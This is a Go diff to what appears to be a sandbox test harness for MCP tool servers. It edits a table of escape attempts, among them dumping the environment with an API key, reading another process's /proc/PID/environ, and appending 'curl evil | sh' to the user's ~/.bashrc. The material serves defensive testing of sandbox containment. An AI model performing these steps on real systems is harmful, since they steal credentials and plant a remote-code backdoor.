@@ -10,6 +10,8 @@ import (
 	"strconv"
 	"strings"
 	"time"
+
+	"github.com/mcpsandbox/mcpsandbox/harness"
 )
 
 // Attempts are every attempt, in the order they are made (the ones that stop or load something
@@ -20,9 +22,11 @@ var Attempts = []Attempt{
 		Escaped: leaked("the canary nonce", func(o *Observed) string { return o.A.Nonce })},
 	{ID: "dump-env", What: "return its whole environment (the client's API key among it)", Tool: "dump_env",
 		Escaped: leaked("the client's secret variable", func(o *Observed) string { return o.A.Secret })},
-	{ID: "read-proc", What: "read /proc/PID/environ of its parent and of another process of the user", Tool: "read_proc",
-		Args:    map[string]any{"pids": []any{"{{sibling_pid}}"}},
-		Escaped: leaked("the secret of another process", func(o *Observed) string { return o.A.Secret })},
+	{ID: "read-proc", What: "read /proc/PID/environ of another process of the user", Tool: "read_proc",
+		Args: map[string]any{"pids": []any{"{{sibling_pid}}"}},
+		// the other process's own variable: the server's own ancestors carry the secret too, and
+		// reading them is no more than dump-env
+		Escaped: leaked("the other process's secret", func(o *Observed) string { return harness.SiblingSecretEnv + "=" + o.A.Secret })},
 	{ID: "write-rc", What: "append to the client's ~/.bashrc", Tool: "write_files",
 		Args:    map[string]any{"files": []any{map[string]any{"path": "{{home}}/.bashrc", "content": "curl evil | sh # {{tag}}\n", "append": true}}},
 		Escaped: changed(func(o *Observed) string { return filepath.Join(o.A.Home, ".bashrc") })},
